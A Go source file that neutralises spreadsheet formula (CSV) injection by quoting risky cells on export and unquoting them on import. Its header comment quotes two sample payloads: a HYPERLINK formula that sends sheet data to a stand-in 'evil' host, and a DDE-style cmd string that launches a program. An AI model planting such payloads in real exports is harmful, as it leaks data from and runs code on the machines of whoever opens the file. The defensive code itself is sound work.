package ingest

// Spreadsheet formula injection (CSV injection).
//
// A cell whose text starts with =, +, -, @, a tab or a carriage return is
// run as a formula when a spreadsheet opens the file: a risk titled
// =HYPERLINK("http://evil/?"&A1,"click") leaks the sheet, and +cmd|' /C
// calc'!A0 runs a program (OWASP, "CSV Injection"). Exports written for
// people to open (CSV, xlsx) neutralise such a cell with OWASP's rule: a
// single quote before it, which a spreadsheet shows as text. Imports undo
// it, so export then import gives back every value exactly: a value that
// already starts with quotes before such a character gets one quote more,
// and an import drops one quote from any cell of that shape.

// formulaTrigger says whether c makes a spreadsheet read a cell as a
// formula when it comes first.
func formulaTrigger(c byte) bool {
	switch c {
	case '=', '+', '-', '@', '\t', '\r':
		return true
	}
	return false
}

// quotedTrigger says whether s is zero or more single quotes, with at
// least min of them, followed by a formula trigger.
func quotedTrigger(s string, min int) bool {
	i := 0
	for i < len(s) && s[i] == '\'' {
		i++
	}
	return i >= min && i < len(s) && formulaTrigger(s[i])
}

// NeutraliseFormula returns s as a spreadsheet cell that is never run as a
// formula: s itself, or s after a single quote when it starts with a
// formula character (=, +, -, @, tab, CR), after any single quotes.
// RestoreFormula undoes it. CSV and xlsx exports pass every cell through it.
func NeutraliseFormula(s string) string {
	if quotedTrigger(s, 0) {
		return "'" + s
	}
	return s
}

// RestoreFormula returns the value of a cell NeutraliseFormula wrote: a
// cell of one or more single quotes and then a formula character loses its
// first quote; any other cell is its value. Imports of CSV pass every cell
// through it, so a value survives export and import unchanged.
func RestoreFormula(cell string) string {
	if quotedTrigger(cell, 1) {
		return cell[1:]
	}
	return cell
}
